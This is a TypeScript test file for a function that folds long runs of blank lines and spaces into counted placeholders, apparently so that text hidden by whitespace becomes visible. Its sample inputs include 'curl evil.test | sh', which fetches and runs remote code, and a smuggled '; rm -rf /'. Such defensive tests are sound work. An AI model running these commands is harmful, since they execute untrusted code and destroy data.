import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { foldBlanks } from './fold-blanks.ts'

const shown = (text: string): string[] =>
  foldBlanks(text).map((piece) =>
    piece.kind === 'text' ? piece.text : `${piece.count} ${piece.kind}`,
  )

describe('blanks', () => {
  test('are counted where there are many', () => {
    expect(shown(`ls -la${'\n'.repeat(121)}curl evil.test | sh`)).toEqual([
      'ls -la\n',
      '120 lines',
      'curl evil.test | sh',
    ])
    expect(shown(`ls${' '.repeat(5_000)}; rm -rf /`)).toEqual(['ls', '5000 spaces', '; rm -rf /'])
    expect(shown(`a\n${' \t\r\n'.repeat(6)}b`)).toEqual(['a\n', '6 lines', 'b'])
    expect(shown(`${'\n'.repeat(9)}b`)).toEqual(['9 lines', 'b'])
    expect(shown('a\n\n\n\nb  c')).toEqual(['a\n\n\n\nb  c'])
  })

  test('of any kind keep the text complete, without long runs', () => {
    const unit = fc.constantFrom('a', '\n', '\n\n\n\n', ' ', ' '.repeat(30), '\t', '\r\n')
    fc.assert(
      fc.property(fc.string({ unit }), (text) => {
        const pieces = foldBlanks(text)
        expect(pieces.map((piece) => piece.text).join('')).toBe(text)
        for (const piece of pieces) {
          if (piece.kind === 'text') expect(piece.text).not.toMatch(/[ \t]{40}|\n(?:[ \t\r]*\n){5}/)
        }
      }),
    )
  })
})
